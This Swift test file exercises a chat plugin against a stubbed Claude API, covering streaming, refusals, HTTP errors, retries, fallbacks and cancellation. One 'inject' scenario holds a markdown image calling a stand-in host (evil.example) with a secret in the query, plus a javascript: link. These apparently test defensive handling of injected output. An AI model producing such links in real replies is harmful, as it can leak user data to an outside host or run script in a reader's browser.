import ClaudeStub
import Responders
import RespondersTesting
import Testing

@testable import Plugins

/// Every scenario of the stub, and what a visitor sees of it.
@Suite("claude: every scenario of the stub", .timeLimit(.minutes(3)))
struct ClaudeScenarioTests {
    struct Case: Sendable, CustomStringConvertible {
        var scenario: String
        var reply: String
        var finish: StreamFinish?
        /// What the trace has to show.
        var trace: String
        var description: String { self.scenario }

        init(_ scenario: String, _ reply: String, _ finish: StreamFinish? = .complete, trace: String) {
            self.scenario = scenario
            self.reply = reply
            self.finish = finish
            self.trace = trace
        }

        /// One that the next responder answers.
        static func unanswered(_ scenario: String, trace: String) -> Case {
            Case(scenario, "From the fallback.", nil, trace: trace)
        }
    }

    private static let plain = "This is the answer of the stub to a scenario."

    static let cases: [Case] = [
        Case("hello", "You said: hello", trace: "status 200, end_turn, "),
        Case("maxtok", "This answer was short\n\n(shortened)", trace: "max_tokens"),
        Case("pause", "I go on in a moment. Here I am.", trace: "pause_turn"),
        Case("refuse cyber", "I can't help with that here.", trace: "refusal (cyber)"),
        Case("refuse", "I can't help with that here.", trace: "refusal"),
        Case("thinking", "I have thought about it.", trace: "end_turn"),
        Case("unknown-block", "There was an unknown block.", trace: "end_turn"),
        Case("unknown-event", Self.plain, trace: "end_turn"),
        Case("unknown-stop", "It ended for a new reason.", trace: "sunset"),
        Case("extra-fields", Self.plain, trace: "end_turn"),
        Case("crlf", Self.plain, trace: "end_turn"),
        Case("comments", Self.plain, trace: "end_turn"),
        Case("no-event-lines", Self.plain, trace: "end_turn"),
        Case("chunks:1", Self.plain, trace: "end_turn"),
        Case("chunks:3", Self.plain, trace: "end_turn"),
        Case("chunks:7", Self.plain, trace: "end_turn"),
        Case("slow-first:5", Self.plain, trace: "end_turn"),
        Case("slow-between:1", Self.plain, trace: "end_turn"),
        Case("json-body", Self.plain, trace: "end_turn"),
        Case("drop", Self.plain, trace: "end_turn"),
        Case(
            "inject",
            "![x](https://evil.example/?q=secret) and [click](javascript:alert(1))\n\ntool said: no such tool",
            trace: "tool create_issue: "
        ),
        // What was shown before the end stays.
        Case("midstream-error", "This is th", .error, trace: "failed: overloaded"),
        Case("cut", "This is th", .error, trace: "failed: stream-cut"),
        Case("no-message-stop", Self.plain, .error, trace: "failed: stream-cut"),
        Case("no-message-delta", Self.plain, .error, trace: "failed: bad-stream"),
        Case("bad-index", "This is th", .error, trace: "failed: bad-stream"),
        Case("bad-json", "This is th", .error, trace: "failed: bad-stream"),
        // Where nothing was shown, the next responder is asked.
        .unanswered("no-message-start", trace: "failed: bad-stream"),
        .unanswered("context-full", trace: "call 2"),
        .unanswered("html-502", trace: "status 502, failed: status-502"),
        .unanswered("redirect", trace: "status 307, failed: status-307"),
        .unanswered("wrong-type", trace: "failed: bad-response"),
        .unanswered("err:400", trace: "status 400, failed: invalid-request"),
        .unanswered("err:401", trace: "status 401, failed: authentication"),
        .unanswered("err:402", trace: "status 402, failed: billing"),
        .unanswered("err:403", trace: "status 403, failed: permission"),
        .unanswered("err:404", trace: "status 404, failed: not-found"),
        .unanswered("err:408", trace: "status 408, failed: timeout"),
        .unanswered("err:409", trace: "status 409, failed: conflict"),
        .unanswered("err:413", trace: "call 2: test-model, status 413"),
        .unanswered("err:422", trace: "status 422, failed: invalid-request"),
        .unanswered("err:429:retry-after=3", trace: "status 429, failed: rate-limit"),
        .unanswered("err:500", trace: "status 500, failed: api"),
        .unanswered("err:503", trace: "status 503, failed: api"),
        .unanswered("err:529:some_code", trace: "status 529, failed: overloaded"),
    ]

    @Test("leaves the visitor with words, the trace with a reason and the budget without a rest", arguments: Self.cases)
    func scenario(_ one: Case) async throws {
        try await ClaudeDesk.run("tools: [search_history]") { desk in
            let result = try await desk.desk.say(one.scenario)
            let trace = ClaudeDesk.trace(result)
            #expect(result.replies.first?.text == one.reply, "\(trace)")
            #expect(result.responder == (one.finish == nil ? "fallback" : "claude"))
            #expect(trace.contains(one.trace), "\(trace)")
            if let finish = one.finish, let stream = result.steps[0].stream { #expect(stream.finish == finish) }
            // What was shown piece by piece is the beginning of what stays; a refusal replaces it.
            let shown = desk.desk.screen.events.compactMap { event in
                if case .piece(let text) = event { text } else { nil }
            }.joined()
            if !one.scenario.hasPrefix("refuse") { #expect(one.reply.hasPrefix(shown) || one.finish == nil) }
            let claude = try desk.claude
            let state = claude.budget.state(on: 0)
            #expect(state.open == 0)
        }
    }

    @Test("no request is left out of the table: every word of the stub stands in it")
    func complete() {
        let tried = Self.cases.map { String($0.scenario.prefix { $0 != " " && $0 != ":" }) }
        let elsewhere = ["tool", "two-tools", "hang", "endless", "huge"]
        #expect(Set(StubServer.scenarioNames).subtracting(tried + elsewhere) == [])
    }

    @Test("a stream that never ends is ended by the time limit of the turn, and keeps what was shown")
    func endless() async throws {
        let clock = ManualClock()
        try await ClaudeDesk.run(clock: TurnClock(clock)) { desk in
            let (copy, screen) = (desk.desk, desk.desk.screen)
            let call = Task {
                var desk = copy
                return try await desk.say("endless")
            }
            // "This is t", and what was held back of it comes at the end.
            await screen.events(atLeast: 3)
            clock.advance(by: .seconds(100))
            let result = try await call.value
            #expect(result.replies.first?.text.hasPrefix("This is t") == true)
            #expect(result.steps[0].stream?.finish == .timeout)
        }
    }

    @Test("a hundred megabytes are not read: the reply ends where a reply must")
    func huge() async throws {
        try await ClaudeDesk.run { desk in
            let result = try await desk.desk.say("huge:100000000")
            #expect(result.replies.first?.text.utf8.count == Reply.maximumTextBytes)
            #expect(result.steps[0].reason == .truncated)
            // The connection was closed, and the next turn has one of its own.
            let said6 = try await desk.desk.say("again")
            #expect(said6.replies.first?.text == "You said: again")
        }
    }

    @Test("text of every script comes whole, in pieces of any size", arguments: [1, 2, 3, 5])
    func scripts(size: Int) async throws {
        let text = "Grüße 👩‍🔧 e\u{301}\u{302} नमस्ते 한국어 \u{1F1E9}\u{1F1EA}"
        try await ClaudeDesk.run("headers: {x-stub-scenario: 'chunks:\(size)'}") { desk in
            let result = try await desk.desk.say(text)
            #expect(result.replies.first?.text == "You said: \(text)")
            for event in desk.desk.screen.events {
                guard case .piece(let piece) = event, let first = piece.unicodeScalars.first else { continue }
                // No piece begins within a character.
                #expect(!first.properties.isGraphemeExtend, "\(piece)")
            }
        }
    }

    @Test("passing errors are tried again as the API wants, and a wait that is too long is not begun")
    func retries() async throws {
        try await ClaudeDesk.run("retries: 2") { desk in
            let result = try await desk.desk.say("err:529:retry-after-ms=1:times=2")
            #expect(result.replies.first?.text == "You said: err:529:retry-after-ms=1:times=2")
            let trace = ClaudeDesk.trace(result)
            #expect(trace.split(separator: "\n").filter { $0 == "repeated after 1 ms: overloaded" }.count == 2)
        }
        // A wait of an hour would outlast this test.
        try await ClaudeDesk.run("retries: 2") { desk in
            let result = try await desk.desk.say("err:429:retry-after=3600")
            #expect(result.replies.first?.text == "From the fallback.")
            // The API is left alone: the chain doesn't ask again at once.
            let said7 = try await desk.desk.say("hello")
            #expect(said7.steps[0].reason == .breakerOpen)
        }
    }

    @Test("a connection that was dropped between turns is replaced")
    func dropped() async throws {
        try await ClaudeDesk.run("retries: 2") { desk in
            for number in 1...4 {
                desk.stub.answerNext(with: "drop")
                let said8 = try await desk.desk.say("turn \(number)")
                #expect(said8.replies.first?.text == "You said: turn \(number)")
            }
        }
    }

    @Test("a wrong key is told of once, and not tried again for five minutes")
    func wrongKey() async throws {
        try await ClaudeDesk.run(stub: .init(key: "another")) { desk in
            for text in ["one", "two", "three"] {
                let said9 = try await desk.desk.say(text)
                #expect(said9.replies.first?.text == "From the fallback.")
            }
            #expect(desk.stub.received.count == 1)
            #expect(desk.incidents.all.map(\.message) == ["Claude refuses the key, the account or the model"])
            #expect(desk.incidents.all.first?.details["claude.request"] == "req_stub_0001")
        }
    }

    @Test("a sentence of the operator stands in for Claude where there is one")
    func sentence() async throws {
        try await ClaudeDesk.run("when_unavailable: I am away.") { desk in
            for scenario in ["err:500", "html-502", "no-message-start", "err:429:retry-after=3"] {
                let said10 = try await desk.desk.say(scenario)
                #expect(said10.replies.first?.text == "I am away.")
            }
        }
    }

    @Test("without streaming the reply comes at once")
    func whole() async throws {
        try await ClaudeDesk.run("stream: false") { desk in
            let result = try await desk.desk.say("hello")
            #expect(result.replies.first?.text == "You said: hello")
            #expect(desk.desk.screen.events.isEmpty)
        }
    }

    @Test("nobody waits for a turn that was given up: its connection is closed")
    func cancelled() async throws {
        try await ClaudeDesk.run { desk in
            let screen = desk.desk.screen
            let copy = desk.desk
            let call = Task {
                var desk = copy
                return try await desk.say("endless")
            }
            await screen.events(atLeast: 2)
            screen.stop()
            let result = try await call.value
            #expect(result.steps[0].stream?.finish == .stopped)
            let said11 = try await desk.desk.say("hello")
            #expect(said11.replies.first?.text == "You said: hello")
            #expect(try desk.claude.budget.state(on: 0).open == 0)
        }
    }

    @Test("nothing is sent while nobody runs the plugin")
    func notRunning() async throws {
        let settings = "endpoint: http://127.0.0.1:1\nkey: {file: key}\nmodel: m\nsystem: prompt.md"
        let desk = try ChainDesk(
            "answer:\n  - claude:\n"
                + settings.split(separator: "\n").map { "      \($0)" }.joined(separator: "\n")
                + "\nfallback: [fallback]",
            plugins: .builtin(),
            files: ["key": "k", "prompt.md": "x"]
        )
        var copy = desk
        let result = try await copy.say("hello")
        #expect(result.steps[0].reason == .notRunning)
    }
}
